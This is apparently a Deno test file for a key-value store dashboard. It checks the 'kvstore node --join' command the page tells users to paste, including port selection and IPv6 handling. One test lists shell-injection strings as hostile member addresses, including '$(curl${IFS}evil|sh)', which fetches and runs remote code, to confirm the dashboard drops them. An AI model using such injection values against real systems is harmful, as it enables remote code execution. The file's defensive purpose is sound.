/** What the page tells people to type on a new machine, and that the program reads it. */

import { assertEquals, assertStringIncludes } from "@std/assert";
import { joinCommand } from "../../../lib/dashboard/assets/join_command.js";
import { seedAddresses } from "../../../lib/cli/peers.ts";

function member(peer: string, client: string, http = "") {
  return { "peer_address": peer, "client_address": client, "http_address": http };
}

function commandFor(...members: readonly ReturnType<typeof member>[]): string {
  return joinCommand(members).command;
}

Deno.test("dashboard: what joins a cluster names the address of each member, and a peer port only where it is needed", () => {
  const usual = [0, 1].map((at) => member(`10.0.0.${at}:15000`, `10.0.0.${at}:5000`));
  const host = "--host ADDRESS --peer-tls-cert FILE --peer-tls-key FILE --peer-tls-ca FILE";
  assertEquals(commandFor(...usual), `kvstore node --join 10.0.0.0:5000,10.0.0.1:5000 ${host}`);
  const other = member("db:7000", "db:5000");
  assertEquals(commandFor(other), `kvstore node --join db:5000@7000 ${host}`);
  const unknown = member("", "10.0.0.9:5000");
  assertEquals(commandFor(other, unknown), `kvstore node --join db:5000@7000 ${host}`);
  const version6 = member("[fd00::1]:15000", "[fd00::1]:5000");
  assertEquals(commandFor(version6), `kvstore node --join [fd00::1]:5000 ${host}`);
  for (const { peer_address: address, client_address: client } of [...usual, other, version6]) {
    const list = /--join (\S+)/.exec(commandFor(member(address, client)))?.[1] ?? "";
    assertEquals(seedAddresses(list, "127.0.0.1"), [address]);
  }
});

Deno.test("dashboard: where only this machine reaches the members, the new node gets the next port", () => {
  const local = [0, 1, 2].map((id) => member(`127.0.0.1:${15000 + id}`, `127.0.0.1:${5000 + id}`));
  assertEquals(
    commandFor(...local),
    "kvstore node --join 127.0.0.1:5000,127.0.0.1:5001,127.0.0.1:5002 --port 5003",
  );
  const odd = [
    member("127.0.0.1:5001", "127.0.0.1:5000", "127.0.0.1:5002"),
    member("127.0.0.1:15003", "127.0.0.1:4999"),
  ];
  assertEquals(
    /--port .*/.exec(commandFor(...odd, member("127.0.0.1:1", "127.0.0.1:2", "127.0.0.1:8004")))?.[0],
    "--port 5005",
  );
  assertEquals(commandFor(member("[::1]:15000", "[::1]:5000")), "kvstore node --join [::1]:5000 --port 5001");
});

Deno.test("dashboard: what is to be pasted names no member whose address means something to a shell", () => {
  const good = member("db:15000", "db:5000");
  const zoned = member("[fe80::1%eth0]:15000", "[fe80::1%eth0]:5000");
  const host = "--host ADDRESS --peer-tls-cert FILE --peer-tls-key FILE --peer-tls-ca FILE";
  const hostile = ["$(curl${IFS}evil|sh)", "a;b", "`x`", "[$(x)::1]", "[::1%$(x)]", "a b", "a'b"];
  for (const name of hostile) {
    const stranger = member(`${name}:15000`, `${name}:5000`);
    assertEquals(commandFor(stranger, good, zoned), `kvstore node --join db:5000,[fe80::1%eth0]:5000 ${host}`);
    assertEquals(joinCommand([stranger]), joinCommand([]), name);
    assertEquals(commandFor(member("db:7000", `${name}:5000`)), `kvstore node --join db:5000@7000 ${host}`);
  }
});

Deno.test("dashboard: where no member can be named there is no command, and it is said why", () => {
  for (
    const members of [[], [member("", "10.0.0.9:5000")], [member("$(x):15000", "db:5000")], [member("db:x", "db:5000")]]
  ) {
    const { command, note } = joinCommand(members);
    assertEquals(command, "", JSON.stringify(members));
    assertStringIncludes(note, "No member is known by an address that can be typed here");
  }
  const list = /--join (\S+)/.exec(commandFor(member("db:7000", "")))?.[1] ?? "";
  assertEquals(list, "db:7000@7000");
  assertEquals(seedAddresses(list, "127.0.0.1"), ["db:7000"]);
  assertEquals(commandFor(member("127.0.0.1:7000", "")), "kvstore node --join 127.0.0.1:7000@7000 --port 1");
});
